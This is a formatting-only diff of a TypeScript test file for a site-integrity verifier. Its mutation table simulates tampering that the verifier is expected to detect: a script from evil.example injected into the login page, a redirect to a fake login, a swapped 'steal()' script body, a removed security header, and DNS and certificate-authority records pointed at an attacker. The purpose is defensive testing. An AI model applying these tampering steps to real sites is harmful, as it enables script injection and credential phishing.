@@ -106,7 +106,12 @@ test.after.each(() => {
 const siteNow = () => ({ url, manifest, host, resolver, ca: trusted })
 
 test('the manifest has what is sent, and not what the host makes of it', () => {
-  assert.equal(Object.keys(manifest), Object.keys(FILES).filter((path) => path !== '_headers').sort())
+  assert.equal(
+    Object.keys(manifest),
+    Object.keys(FILES)
+      .filter((path) => path !== '_headers')
+      .sort(),
+  )
 })
 
 test('a site as it was built: no difference, in any round', async () => {
@@ -123,72 +128,150 @@ const isScript = ({ path, status }: Sent) => path.startsWith('/a/') && status ==
 const isLogin = ({ path }: Sent) => path === '/login'
 
 const MUTATIONS: readonly [what: string, mutate: () => void, told: RegExp][] = [
-  ['a script with another contract', () => {
-    spoil = (sent) => isScript(sent) && send(sent, (text) => text.replace(/1{40}/, '2'.repeat(40)))
-  }, /\/a\/X2345678\.js as br: another content/],
-  ['a script more in a page', () => {
-    spoil = (sent) => isLogin(sent) && send(sent, (text) => `${text}<script src="https://evil.example/x.js"></script>`)
-  }, /\/login as br: another content/],
-  ['a page without integrity', () => {
-    spoil = (sent) => isLogin(sent) && send(sent, (text) => text.replace(/<script type="importmap">.*?<\/script>/, ''))
-  }, /\/login as br: another content/],
-  ['a script cut short', () => {
-    spoil = (sent) => isScript(sent) && send(sent, (text) => text.slice(0, 20))
-  }, /another content, 20 bytes/],
-  ['one packing of a script alone', () => {
-    spoil = (sent) => {
-      if (isScript(sent) && sent.encoding === 'gzip') sent.body = gzipSync('steal()')
-    }
-  }, /^\/a\/X2345678\.js as gzip: another content, 7 bytes$/],
-  ['a text', () => {
-    spoil = (sent) => sent.path.startsWith('/t/') && send(sent, () => '{"a":1}')
-  }, /market\.json as br: another content/],
-  ['a header that is gone', () => {
-    spoil = (sent) => sent.headers.delete('content-security-policy')
-  }, /Content-Security-Policy is nothing/],
-  ['a header that allows more', () => {
-    spoil = (sent) => sent.headers.set('content-security-policy', "frame-ancestors *")
-  }, /Content-Security-Policy is frame-ancestors \*/],
-  ['a page that is kept for a year', () => {
-    spoil = (sent) => sent.headers.set('cache-control', 'public, max-age=31536000, immutable')
-  }, /\/login as br: Cache-Control is public/],
-  ['a page that leads elsewhere', () => {
-    spoil = (sent) => {
-      if (!isLogin(sent)) return
-      sent.status = 302
-      sent.headers.set('location', 'https://evil.example/login')
-    }
-  }, /\/login as br: 302, led to https:\/\/evil\.example\/login/],
-  ['a script of another type', () => {
-    spoil = (sent) => isScript(sent) && sent.headers.set('content-type', 'text/html')
-  }, /Content-Type is text\/html/],
-  ['a cookie', () => {
-    spoil = (sent) => sent.headers.set('set-cookie', 'id=1')
-  }, /has set-cookie: id=1/],
-  ['a file that was never built', () => {
-    spoil = (sent) => {
-      if (sent.path === '/sw.js') sent.status = 200
-    }
-  }, /\/sw\.js: 200, and no such file was built/],
-  ['another page at an address that has no file', () => {
-    spoil = (sent) => sent.path === '/gun/pet/1' && send(sent, () => 'another')
-  }, /\/gun\/pet\/1 as br: another content/],
-  ['another certificate', () => server.setSecureContext(theirs), /a certificate of another issuer: CN=Another authority/],
-  ['another address in DNS', () => {
-    names.v4 = ['203.0.113.9']
-  }, /DNS leads to 203\.0\.113\.9/],
-  ['another name server', () => {
-    names.ns = ['ns.evil.example.']
-  }, /a name server that is not known: ns\.evil\.example/],
-  ['another authority allowed', () => {
-    names.caa = [{ critical: 0, issue: 'evil.example' }]
-  }, /who may issue certificates: .*evil\.example/],
-  ['nothing at all', () => {
-    spoil = (sent) => {
-      if (isLogin(sent)) sent.headers.set('content-encoding', 'br')
-      sent.body = isLogin(sent) ? Buffer.from('no brotli') : sent.body
-    }
-  }, /no answer/],
+  [
+    'a script with another contract',
+    () => {
+      spoil = (sent) => isScript(sent) && send(sent, (text) => text.replace(/1{40}/, '2'.repeat(40)))
+    },
+    /\/a\/X2345678\.js as br: another content/,
+  ],
+  [
+    'a script more in a page',
+    () => {
+      spoil = (sent) =>
+        isLogin(sent) && send(sent, (text) => `${text}<script src="https://evil.example/x.js"></script>`)
+    },
+    /\/login as br: another content/,
+  ],
+  [
+    'a page without integrity',
+    () => {
+      spoil = (sent) =>
+        isLogin(sent) && send(sent, (text) => text.replace(/<script type="importmap">.*?<\/script>/, ''))
+    },
+    /\/login as br: another content/,
+  ],
+  [
+    'a script cut short',
+    () => {
+      spoil = (sent) => isScript(sent) && send(sent, (text) => text.slice(0, 20))
+    },
+    /another content, 20 bytes/,
+  ],
+  [
+    'one packing of a script alone',
+    () => {
+      spoil = (sent) => {
+        if (isScript(sent) && sent.encoding === 'gzip') sent.body = gzipSync('steal()')
+      }
+    },
+    /^\/a\/X2345678\.js as gzip: another content, 7 bytes$/,
+  ],
+  [
+    'a text',
+    () => {
+      spoil = (sent) => sent.path.startsWith('/t/') && send(sent, () => '{"a":1}')
+    },
+    /market\.json as br: another content/,
+  ],
+  [
+    'a header that is gone',
+    () => {
+      spoil = (sent) => sent.headers.delete('content-security-policy')
+    },
+    /Content-Security-Policy is nothing/,
+  ],
+  [
+    'a header that allows more',
+    () => {
+      spoil = (sent) => sent.headers.set('content-security-policy', 'frame-ancestors *')
+    },
+    /Content-Security-Policy is frame-ancestors \*/,
+  ],
+  [
+    'a page that is kept for a year',
+    () => {
+      spoil = (sent) => sent.headers.set('cache-control', 'public, max-age=31536000, immutable')
+    },
+    /\/login as br: Cache-Control is public/,
+  ],
+  [
+    'a page that leads elsewhere',
+    () => {
+      spoil = (sent) => {
+        if (!isLogin(sent)) return
+        sent.status = 302
+        sent.headers.set('location', 'https://evil.example/login')
+      }
+    },
+    /\/login as br: 302, led to https:\/\/evil\.example\/login/,
+  ],
+  [
+    'a script of another type',
+    () => {
+      spoil = (sent) => isScript(sent) && sent.headers.set('content-type', 'text/html')
+    },
+    /Content-Type is text\/html/,
+  ],
+  [
+    'a cookie',
+    () => {
+      spoil = (sent) => sent.headers.set('set-cookie', 'id=1')
+    },
+    /has set-cookie: id=1/,
+  ],
+  [
+    'a file that was never built',
+    () => {
+      spoil = (sent) => {
+        if (sent.path === '/sw.js') sent.status = 200
+      }
+    },
+    /\/sw\.js: 200, and no such file was built/,
+  ],
+  [
+    'another page at an address that has no file',
+    () => {
+      spoil = (sent) => sent.path === '/gun/pet/1' && send(sent, () => 'another')
+    },
+    /\/gun\/pet\/1 as br: another content/,
+  ],
+  [
+    'another certificate',
+    () => server.setSecureContext(theirs),
+    /a certificate of another issuer: CN=Another authority/,
+  ],
+  [
+    'another address in DNS',
+    () => {
+      names.v4 = ['203.0.113.9']
+    },
+    /DNS leads to 203\.0\.113\.9/,
+  ],
+  [
+    'another name server',
+    () => {
+      names.ns = ['ns.evil.example.']
+    },
+    /a name server that is not known: ns\.evil\.example/,
+  ],
+  [
+    'another authority allowed',
+    () => {
+      names.caa = [{ critical: 0, issue: 'evil.example' }]
+    },
+    /who may issue certificates: .*evil\.example/,
+  ],
+  [
+    'nothing at all',
+    () => {
+      spoil = (sent) => {
+        if (isLogin(sent)) sent.headers.set('content-encoding', 'br')
+        sent.body = isLogin(sent) ? Buffer.from('no brotli') : sent.body
+      }
+    },
+    /no answer/,
+  ],
 ]
 
 for (const [what, mutate, told] of MUTATIONS) {
@@ -202,7 +285,10 @@ for (const [what, mutate, told] of MUTATIONS) {
       mutatedAt = Date.now()
     })
     assert.is(rounds, 1, 'the site was as built before')
-    assert.ok(differences.some((line) => told.test(line)), differences.join('\n'))
+    assert.ok(
+      differences.some((line) => told.test(line)),
+      differences.join('\n'),
+    )
     assert.ok(Date.now() - mutatedAt < 60_000)
   })
 }
@@ -220,7 +306,10 @@ test('a certificate that nobody vouches for, or that ends within days, is a diff
   server.setSecureContext(old)
   server.closeAllConnections()
   const told = await verifySite({ ...siteNow(), ca: old.cert })
-  assert.ok(told.some((line) => /the certificate ends on/.test(line)), told.join('\n'))
+  assert.ok(
+    told.some((line) => /the certificate ends on/.test(line)),
+    told.join('\n'),
+  )
 })
 
 test('what is noted adds up: a host that takes turns is known by all of its addresses', async () => {
